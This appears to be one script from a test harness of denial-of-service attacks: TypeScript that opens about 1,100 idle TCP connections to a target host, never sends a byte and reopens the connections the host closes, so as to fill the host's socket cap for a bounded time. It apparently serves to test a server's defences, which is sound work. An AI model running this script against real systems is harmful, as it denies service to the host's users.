/**
 * Attack 1: idle sockets. Opens `--sockets` TCP connections to the room from one address and
 * never sends a byte (no TLS ClientHello); whenever the host closes one, opens another (at most
 * `--sockets` more in all), to keep the host's raw socket cap full for as long as it runs.
 */
import { connect, type Socket } from 'node:net';
import { attackArgs, boundedLife, emit } from '../support/attacker';

const { target, values } = attackArgs({ sockets: { type: 'string', default: '1100' } });
const wanted = Number(values.sockets);
const open = new Set<Socket>();
let opened = 0;
let connected = 0;
let closedByHost = 0;
let failed = 0;
let engaged = false;
const reopenBudget = wanted;
let reopened = 0;

function openOne(): void {
  opened++;
  const socket = connect({ host: target.host, port: target.port });
  open.add(socket);
  socket.once('connect', () => {
    connected++;
    if (!engaged && open.size >= wanted && connected >= wanted) {
      engaged = true;
      emit('engaged', { open: open.size });
    }
  });
  socket.on('error', () => failed++);
  socket.once('close', () => {
    open.delete(socket);
    closedByHost++;
    if (!ending && reopened < reopenBudget) {
      reopened++;
      setImmediate(openOne);
    }
  });
}

let ending = false;
boundedLife(target.maxMs, () => {
  ending = true;
  const held = open.size;
  for (const s of open) s.destroy();
  return { wanted, opened, connected, held, closedByHost, failed };
});
for (let i = 0; i < wanted; i++) openOne();
// Report engagement even if the host refuses some: what the attacker holds is what counts.
setTimeout(() => {
  if (!engaged) {
    engaged = true;
    emit('engaged', { open: open.size, connected });
  }
}, 5_000).unref();
